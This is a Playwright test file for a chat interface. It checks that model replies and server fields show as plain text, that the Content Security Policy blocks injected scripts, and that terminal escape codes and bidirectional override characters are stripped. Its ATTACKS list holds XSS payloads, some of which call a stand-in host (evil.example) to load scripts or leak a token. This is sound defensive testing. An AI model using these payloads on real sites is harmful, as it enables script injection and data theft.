"""A model, or a text, that wants to run something in the visitor's browser: nothing runs."""

import time

import pytest
from playwright.sync_api import expect

from support.chat_page import Chat, Visit

DONE = {"model": "stub", "revision": "3f2a91c0de", "finishReason": "stop"}
ATTACKS = [
    "<img src=x onerror=\"harmed.push('img')\">",
    "<script>harmed.push('script')</script>",
    "<script src=https://evil.example/x.js></script>",
    "<svg onload=\"harmed.push('svg')\"><animate onbegin=\"harmed.push('animate')\"/></svg>",
    "<iframe srcdoc=\"<script>parent.harmed.push('iframe')</script>\"></iframe>",
    "<a href=\"javascript:harmed.push('link')\">click me</a>",
    "[click me](javascript:harmed.push('markdown'))",
    "![](https://evil.example/spy.png?q=secret)",
    "<style>@import 'https://evil.example/x.css'; * { display: none }</style>",
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "</div></li></ol><form action=https://evil.example/><input name=token></form>",
    "<details open ontoggle=\"harmed.push('toggle')\"><summary>x</summary></details>",
    "${harmed.push('template')} {{constructor.constructor('harmed.push(1)')()}}",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_a_model_writes_is_shown_as_text(chat: Chat, attack: str) -> None:
    text = f"Ada {attack} plays."
    chat.says(*(text[start : start + 7] for start in range(0, len(text), 7)))
    assert chat.ask() == text
    assert chat.page.locator("#turns").evaluate(
        "turns => [...turns.querySelectorAll('*')].map(found => found.localName)"
    ) == ["li", "h2", "div", "div"]
    chat.unscathed()


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_anyone_else_writes_is_shown_as_text(visit: Visit, attack: str) -> None:
    chat = visit(opened=False)
    told: dict[str, object] = dict.fromkeys(("name", "model", "revision"), attack)
    told |= {key: [attack] for key in ("files", "examples")}
    chat.page.route("**/about", lambda route: route.fulfill(json=told))
    chat.open()
    expect(chat.page.get_by_role("heading", level=1)).to_have_text(attack)
    chat.page.get_by_role("list", name="Examples").get_by_role("button").click()
    chat.ended("answered")
    sources = [{"file": attack, "line": 3, "text": attack}]
    chat.reply(
        ("text", {"text": attack}),
        ("done", {**DONE, "sources": sources, "model": attack, "fallback": True}),
    )
    assert chat.ask(attack) == attack
    chat.last.locator("summary").click()
    expect(chat.last.get_by_role("blockquote")).to_have_text(attack)
    chat.reply(
        ("text", {"text": attack}),
        ("done", {**DONE, "nearest": sources, "madeBy": "NoAnswer"}),
    )
    assert chat.ask(attack) == attack
    expect(chat.last.get_by_role("blockquote")).to_have_text(attack)
    chat.page.unroute(f"{chat.url}/")
    chat.expected = ("503",)
    chat.reply(("error", {"reason": attack, "message": attack}), status=503)
    chat.send("And now?")
    chat.ended("failed")
    expect(chat.last.locator("code")).to_have_text(attack)
    chat.unscathed()


@pytest.mark.parametrize("script", ["harmed.push('inline')", "fetch('https://evil.example/')"])
def test_the_policy_holds_even_where_a_script_gets_onto_the_page(chat: Chat, script: str) -> None:
    chat.expected = ("Content Security Policy", "The action has been blocked.")
    chat.page.evaluate(
        """script => {
          const element = document.createElement("script");
          try { element.textContent = script; } catch { breaches.push("refused"); }
          document.body.append(element);
          try { document.body.insertAdjacentHTML("beforeend", "<i id=made>"); } catch {}
        }""",
        script,
    )
    chat.until("breaches.length > 0")
    assert chat.page.evaluate("[window.harmed, document.getElementById('made')]") == [[], None]
    assert not chat.foreign
    chat.page.evaluate("breaches.length = 0")


@pytest.mark.parametrize("cut", [False, True])
def test_terminal_codes_and_controls_are_taken_out(chat: Chat, cut: bool) -> None:
    text = "\x1b[31mred\x1b[0m \x1b]0;title\x07and \x9b2Jbell\x07\x00 \x1b]52;c;aGk=\x1b\\end\x1b"
    chat.says(*(text if cut else [text]))
    assert chat.ask() == "red and bell end"


def test_letters_are_not_shown_in_another_order_than_they_stand(chat: Chat) -> None:
    chat.says("see \u202eexe.gpj\u202c and \u2066isolated\u2069")
    assert chat.ask() == "see exe.gpj and \u2066isolated\u2069"


def test_a_text_from_right_to_left_stands_so_and_turns_nothing_else(chat: Chat) -> None:
    chat.says("תשובה קצרה.\nAnd English.")
    chat.ask("שאלה?")
    question = chat.last.get_by_role("heading")
    assert question.evaluate("found => getComputedStyle(found).direction") == "rtl"
    assert chat.answer.evaluate("found => getComputedStyle(found).direction") == "rtl"
    assert chat.last.evaluate("found => getComputedStyle(found).direction") == "ltr"
    assert chat.page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_a_line_of_a_megabyte_leaves_the_page_alive(visit: Visit) -> None:
    chat = visit(viewport={"width": 320, "height": 640})
    line = "x" * 1_000_000
    chat.says(line)
    began = time.monotonic()
    assert len(chat.ask()) == len(line)
    assert time.monotonic() - began < 10
    assert chat.page.evaluate("document.documentElement.scrollWidth") == 320
    chat.says("Ada plays the cello in a string quartet.")
    assert chat.ask() == "Ada plays the cello in a string quartet."


def test_many_small_pieces_are_all_shown(chat: Chat) -> None:
    words = [f"word{number} " for number in range(3_000)]
    chat.says(*words)
    assert chat.ask() == "".join(words)
